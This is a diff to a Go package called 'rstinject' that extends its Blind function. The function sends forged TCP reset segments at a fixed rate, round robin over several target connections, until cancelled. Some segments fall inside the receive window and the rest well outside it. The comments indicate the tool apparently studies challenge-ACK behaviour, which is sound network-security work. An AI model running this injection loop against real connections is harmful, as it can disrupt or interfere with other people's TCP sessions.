@@ -6,6 +6,7 @@
 package rstinject
 
 import (
+	"context"
 	"encoding/binary"
 	"errors"
 	"fmt"
@@ -112,24 +113,29 @@ func (i *Injector) Send(t Target, seq uint32, s Shape) error {
 // itself, which would reset the connection.
 const InWindowSpan = 8192
 
-// Blind sends n RSTs at pps, a share inWindow of them in the window
-// (RcvNxt+1 .. RcvNxt+InWindowSpan-1: challenged) and the rest half the
-// sequence space away (out of window), as a sweep guessing the window
-// would. It returns the RSTs sent.
-func (i *Injector) Blind(t Target, s Shape, n, pps int, inWindow float64) (int, error) {
+// Blind sends RSTs at pps until ctx ends, round robin over targets: a
+// share inWindow of them in the window (RcvNxt+1 .. RcvNxt+InWindowSpan-1:
+// challenged) and the rest half the sequence space away (out of the
+// window), as a sweep guessing the window would. None is exactly at
+// RcvNxt. It returns the RSTs sent.
+func (i *Injector) Blind(ctx context.Context, targets []Target, s Shape, pps int, inWindow float64) (int, error) {
 	tick := time.NewTicker(time.Second / time.Duration(max(pps, 1)))
 	defer tick.Stop()
-	for k := range n {
+	for n := 0; ; n++ {
+		t := targets[n%len(targets)]
 		seq := t.RcvNxt + 1<<31 + rand.Uint32N(1<<30)
 		if rand.Float64() < inWindow {
 			seq = t.RcvNxt + 1 + rand.Uint32N(InWindowSpan-1)
 		}
 		if err := i.Send(t, seq, s); err != nil {
-			return k, err
+			return n, err
 		}
-		<-tick.C
+		select {
+		case <-ctx.Done():
+			return n + 1, nil
+		case <-tick.C:
+		}
 	}
-	return n, nil
 }
 
 // tcpSendQueue is the kernel's TCP_SEND_QUEUE (include/uapi/linux/tcp.h),
